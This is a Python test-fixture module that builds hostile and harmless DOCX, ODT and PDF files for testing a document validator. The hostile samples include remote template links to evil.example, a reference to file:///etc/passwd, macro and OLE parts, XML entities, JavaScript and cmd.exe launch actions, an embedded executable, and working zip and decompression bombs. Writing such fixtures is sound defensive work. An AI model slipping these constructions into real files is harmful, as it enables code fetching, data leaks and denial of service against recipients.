"""Files that must not come in, and small good ones beside them, built in memory."""

import io
import zipfile

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject

OFFICE = "application/vnd.openxmlformats-officedocument."
MAIN = {
    "docx": ("word/document.xml", OFFICE + "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", OFFICE + "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", OFFICE + "presentationml.presentation.main+xml"),
}
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


def archive(parts: dict, method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return buffer.getvalue()


def office(kind: str = "docx", content_type: str = "", encoding: str = "utf-8", **more) -> bytes:
    """A small DOCX, XLSX or PPTX; `more` are further parts."""
    part, main = MAIN[kind]
    types = f'<?xml version="1.0"?><Types><Override PartName="/{part}" ContentType="{content_type or main}"/></Types>'
    return archive({"[Content_Types].xml": types.encode(encoding), part: "<x/>"} | more)


def open_document(kind: str = "text", **more) -> bytes:
    return archive({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": "<x/>"} | more)


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SPACES = (
    'xmlns:x="http://www.w3.org/1999/xlink" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
)


def related(
    kind: str, target: str, mode: str = "External", part: str = "word/_rels/document.xml.rels", **more
) -> bytes:
    """A DOCX with a relationship."""
    row = f'<Relationship Id="r1" Type="{RELATIONS}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return office(**{part: f"<Relationships>{row}</Relationships>"} | more)


def naming(element: str, target: str, part: str = "content.xml") -> bytes:
    """An ODT with an element that names something."""
    return open_document(**{part: f'<o {SPACES}><{element} x:href="{target}"/></o>'})


TEMPLATE = "word/_rels/settings.xml.rels"
FETCHING = [
    ("docx", related("attachedTemplate", "https://evil.example/a.dotm", part=TEMPLATE)),
    ("docx", related("attachedTemplate", r"\\evil.example\a.dotm", part=TEMPLATE.upper())),
    ("docx", related("attachedTemplate", "https://evil.example/a.dotm", mode="Internal", part=TEMPLATE)),
    ("docx", related("image", "https://evil.example/a.png")),
    ("docx", related("oleObject", "https://evil.example/a.hta")),
    ("docx", related("attachedTemplate", r"file:///\\evil.example\a.dotm", part=TEMPLATE)),
    ("docx", related("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm", part=TEMPLATE)),
    ("docx", related("frame", "file://evil.example/a")),
    *(
        ("odt", naming(*each))
        for each in (
            ("draw:image", "https://evil.example/a.png"), ("draw:image", "//evil.example/a.png"),
            ("draw:object", "../other.odt"), ("text:section-source", "file:///etc/passwd"),
            ("draw:image", "https://evil.example/a.png", "styles.xml"),
            ("draw:image", "https://evil.example/a.png", "Object 1/content.xml"),
            ("meta:template", "https://evil.example/a.ott", "meta.xml"),
            ("meta:template", "file://evil.example/a.ott", "meta.xml"),
            ("meta:auto-reload", "https://evil.example/", "meta.xml"),
        )
    ),
]  # fmt: skip
CHART_DATA = "word/embeddings/Microsoft_Excel_Worksheet.xlsx"
HOLDING_FILES = [
    ("docx", office(**{"word/embeddings/oleObject1.bin": b"x"})),
    ("docx", office(**{"word/embeddings/letter.docx": office()})),
    ("docx", office(**{CHART_DATA: office("xlsx", **{"xl/embeddings/again.xlsx": office("xlsx")})})),
    ("docx", related("package", "embeddings/letter.docx", mode="Internal")),
    ("docx", office(**{"word/other.BIN": b"x"})),
    ("docx", related("oleObject", "media/a.wmf", mode="Internal")),
    ("docx", related("aFChunk", "a.rtf", mode="Internal")),
    ("odt", open_document(**{"Object 1": b"x"})),
    ("odt", naming("draw:object-ole", "./Object 1")),
]
ACTING = [
    ("docx", office(**{CHART_DATA: office("xlsx", MACROS)})),
    ("docx", office(**{CHART_DATA: office("xlsx", **{"xl/vbaProject.bin": b"x"})})),
    ("odt", open_document(**{"Object 1/Basic/Standard/Module1.xml": b"x"})),
    ("odt", naming("script:event-listener", "#x")),
    ("odt", naming("text:a", "vnd.sun.star.script:x.Main?language=Basic")),
    ("odt", open_document(**{"styles.xml": '<!DOCTYPE o [<!ENTITY a "x">]><o>&a;</o>'})),
    ("docx", office(**{TEMPLATE: '<!DOCTYPE o [<!ENTITY a "x">]><o/>'})),
]
HARMLESS = [
    ("docx", related("package", "../embeddings/book.xlsx", mode="Internal", **{CHART_DATA: office("xlsx")})),
    ("docx", related("hyperlink", "https://gzk.rks-gov.net/")),
    ("docx", related("attachedTemplate", "file:///C:\\Users\\ana\\Letter.dotx", part=TEMPLATE)),
    ("docx", related("image", "media/a.png", mode="Internal", **{"word/media/a.png": b"x"})),
    ("docx", related("image", "/word/media/a.png", mode="Internal")),
    ("xlsx", office("xlsx", **{"xl/printerSettings/printerSettings1.bin": b"x"})),
    ("odt", naming("text:a", "https://gzk.rks-gov.net/")),
    ("odt", naming("draw:a", "mailto:ana@example.org")),
    ("odt", naming("draw:image", "Pictures/a.png")),
    ("odt", naming("draw:object", "./Object 1")),
    ("odt", naming("text:note", "#note1")),
    ("odt", naming("meta:template", "file:///home/ana/letter.ott", "meta.xml")),
    ("odt", open_document(**{"META-INF/manifest.xml": "<!DOCTYPE x><x/>", "Configurations2/current.xml": b""})),
    ("odt", open_document(**{"Object 1/content.xml": "<math/>"})),
]


def encrypted_archive() -> bytes:
    """A DOCX with the bit that says that its parts are locked."""
    content = bytearray(office())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(signature)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(signature, place + 1)
    return bytes(content)


def overlapping_archive(copies: int = 600) -> bytes:
    """Many names for the same packed bytes (https://www.bamsoftware.com/hacks/zipbomb/)."""
    buffer = io.BytesIO(archive({"word/document.xml": bytes(300_000)}))
    with zipfile.ZipFile(buffer, "a") as bomb:
        first = bomb.infolist()[0]
        for number in range(copies):
            twin = zipfile.ZipInfo(f"word/{number}.xml")
            for name in ("header_offset", "file_size", "compress_size", "CRC", "compress_type", "flag_bits"):
                setattr(twin, name, getattr(first, name))
            bomb.filelist.append(twin)
        bomb._didModify = True
    return buffer.getvalue()


def pdf(text: str = "", title: str = "", pages: int = 1, change=None, password: str = "") -> bytes:
    """A PDF with these words on each page; `change` does something to the writer."""
    writer = PdfWriter()
    for _page in range(pages):
        page = writer.add_blank_page(200, 200)
        if text:
            _write(writer, page, text)
    if title:
        writer.add_metadata({"/Title": title})
    if change:
        change(writer)
    if password is not None and password != "":
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _write(writer, page, text):
    font = DictionaryObject(
        {NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
         NameObject("/BaseFont"): NameObject("/Helvetica")}
    )  # fmt: skip
    fonts = DictionaryObject({NameObject("/F1"): writer._add_object(font)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 12 Tf 10 100 Td ({text}) Tj ET".encode())
    page[NameObject("/Contents")] = writer._add_object(stream)


def runs(kind: str):
    """Makes a PDF do something when it is opened."""

    def change(writer):
        action = {NameObject("/S"): NameObject(kind), NameObject("/JS"): TextStringObject("app.alert(1)")}
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(action))

    return change


def runs_from_a_link(writer):
    """The program hangs on a place of the first page."""
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    link = DictionaryObject(
        {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action,
         NameObject("/Rect"): ArrayObject(map(NumberObject, (0, 0, 9, 9)))}
    )  # fmt: skip
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def runs_by_name(writer):
    """The program stands in the document's list of programs."""
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")})
    listed = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), action])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): listed})


def attaches(writer):
    """The PDF carries another file."""
    writer.add_attachment("x.exe", b"MZ")


def swollen_pdf() -> bytes:
    """A page whose text unpacks to some 100 MB."""

    def change(writer):
        stream = DecodedStreamObject()
        stream.set_data(b"BT (" + b"a" * 100_000_000 + b") Tj ET")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream.flate_encode())

    return pdf(change=change)


def endless_pdf() -> bytes:
    """Pages whose tree is its own child."""

    def change(writer):
        pages = writer._root_object["/Pages"].get_object()
        pages[NameObject("/Kids")] = ArrayObject([writer._root_object.raw_get("/Pages")])
        pages[NameObject("/Count")] = NumberObject(10**9)

    return pdf(change=change)
